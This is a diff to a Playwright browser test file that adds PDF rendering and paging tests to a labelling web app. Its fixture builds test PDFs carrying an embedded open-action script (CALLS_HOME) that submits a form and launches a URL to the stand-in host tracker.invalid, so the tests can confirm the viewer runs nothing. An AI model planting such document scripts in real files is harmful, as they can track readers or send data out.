@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import wave
 from collections.abc import Callable
 from pathlib import Path
@@ -13,21 +14,27 @@ from playwright.sync_api import Page, expect
 
 from browser.conftest import Server, run_once
 from browser.test_label_page import all_saved
+from drawn_files import write_pdf
 from stagegap.workspace import Workspace
 
 CASCADE = """
 cascade: slips
 noun: slip
-records: {path: slips.jsonl, id: id, media: files, fields: {photo: image, call: audio}}
+records: {path: slips.jsonl, id: id, media: files, fields: {photo: image, call: audio, paper: pdf}}
+references: {path: references.jsonl}
 stages:
   total:
     uses: python
     with: {function: "stages.py:total"}
-    inputs: {photo: record.photo, call: record.call}
+    inputs: {photo: record.photo, call: record.call, paper: record.paper}
     output: {type: label, values: [low, high]}
     ask: Is the total high?
 outcome: {score: total.accuracy, good: ">= 1"}
 """
+
+
+CALLS_HOME = "app.alert(1); this.submitForm('http://tracker.invalid/p'); app.launchURL('http://tracker.invalid/q')"
+"""What a careless reader of PDF would run; a request that leaves this machine fails the test."""
 
 
 def write_slips(folder: Path) -> None:
@@ -43,9 +50,13 @@ def write_slips(folder: Path) -> None:
             sound.setsampwidth(2)
             sound.setframerate(8000)
             sound.writeframes(b"\0\0" * 8000 * 5)
-    rows = [{"id": f"s{n}", "photo": f"secret-high/{n}.png", "call": f"secret-high/{n}.wav"} for n in (1, 2)]
+        write_pdf(home / "files" / "secret-high" / f"{number}.pdf", pages=3, opens=CALLS_HOME)
+    ways = {"photo": "png", "call": "wav", "paper": "pdf"}
+    rows = [{"id": f"s{n}", **{name: f"secret-high/{n}.{way}" for name, way in ways.items()}} for n in (1, 2)]
+    right = [{"record": f"s{n}", "stage": "total", "annotator": "cd", "value": "high"} for n in (1, 2)]
+    (home / "references.jsonl").write_text("\n".join(map(json.dumps, right)) + "\n")
     (home / "slips.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\n")
-    (home / "stages.py").write_text("def total(photo, call):\n    return 'low'\n")
+    (home / "stages.py").write_text("def total(photo, call, paper):\n    return 'low'\n")
     (home / "cascade.yaml").write_text(CASCADE)
     run_once(folder)
 
@@ -63,13 +74,13 @@ def test_picture_is_seen_and_turned_and_recording_played_by_keys_without_their_p
 ) -> None:
     server = serve(is_real=True)
     page = open_page(f"{server.url}/label?stage=total&who=yz&record=s1")
-    picture = page.locator(".inputs img")
+    picture = page.locator(".inputs [data-media=image] img")
     expect(picture).to_be_visible()
     expect(picture).to_have_js_property("naturalWidth", 400)
     assert "secret-high" not in page.locator(".card").inner_html()
-    page.get_by_role("button", name="Larger").click()
+    page.get_by_role("button", name="Larger").first.click()
     expect(picture).to_have_attribute("style", "width: 150%; rotate: 0deg;")
-    page.locator(".vx").focus()
+    page.locator("[data-media=image] .vx").focus()
     page.keyboard.press("t")
     page.keyboard.press("-")
     expect(picture).to_have_attribute("style", "width: 100%; rotate: 90deg;")
@@ -98,7 +109,7 @@ def test_only_what_a_page_gave_out_is_served_and_as_what_it_is(
 ) -> None:
     server = serve(is_real=True)
     page = open_page(f"{server.url}/label?stage=total&who=yz&record=s1")
-    address = str(page.locator(".inputs img").get_attribute("src"))
+    address = str(page.locator(".inputs img").first.get_attribute("src"))
     sound = str(page.locator("audio").get_attribute("src"))
     fetch = page.request.get
     drawn = fetch(server.url + address)
@@ -108,7 +119,7 @@ def test_only_what_a_page_gave_out_is_served_and_as_what_it_is(
     heard = fetch(server.url + sound, headers={"range": "bytes=0-3"})
     assert (heard.status, heard.headers["content-type"], heard.body()) == (206, "audio/wav", b"RIFF")
     small = fetch(f"{server.url}{address}?small=1")
-    assert 0 < len(small.body()) <= len(drawn.body())
+    assert (small.headers["content-type"], small.body()[:2]) == ("image/jpeg", b"\xff\xd8")
     for wrong in (
         address.replace("/picture", "/sound"),
         f"{address}?page=x",
@@ -127,6 +138,24 @@ def test_only_what_a_page_gave_out_is_served_and_as_what_it_is(
     assert fetch(f"{server.url}{address}?small=2").status == 404
 
 
+def test_document_is_paged_through_by_keys_and_by_its_buttons_and_runs_nothing(
+    slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
+) -> None:
+    page = open_page(f"{serve(is_real=True).url}/label?stage=total&who=yz&record=s1")
+    paper = page.locator("[data-media=pdf]")
+    expect(paper.locator("img")).to_have_js_property("naturalHeight", 2400)
+    expect(paper).to_contain_text("page 1 of 3")
+    paper.locator(".vx").focus()
+    for key in ("PageUp", "PageDown", "PageDown", "PageDown"):
+        page.keyboard.press(key)
+    expect(paper).to_contain_text("page 3 of 3")
+    paper.get_by_role("button", name="Page before").click()
+    expect(paper).to_contain_text("page 2 of 3")
+    expect(paper.locator("img")).to_have_attribute("src", re.compile(r"\?page=2$"))
+    expect(paper.locator("img")).to_have_js_property("complete", True)
+    expect(paper.locator("img")).to_have_js_property("naturalHeight", 2400)
+
+
 def test_failures_page_shows_the_picture_with_its_path(
     slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
 ) -> None:
@@ -136,3 +165,9 @@ def test_failures_page_shows_the_picture_with_its_path(
     expect(page.locator(".vi img").first).to_have_js_property("naturalWidth", 400)
     expect(page.get_by_text("secret-high/").first).to_be_visible()
     expect(page.get_by_role("button", name="Larger").first).to_be_visible()
+    page.goto(f"{page.url.partition('/read')[0]}/failures?who=ab")
+    small = page.locator("tr.pick img.tn")
+    expect(small).to_have_count(2)
+    expect(small.first).to_have_js_property("naturalWidth", 320)
+    page.goto(f"{page.url.partition('/failures')[0]}/odd?who=ab")
+    expect(page.get_by_role("heading", level=1)).to_be_visible()
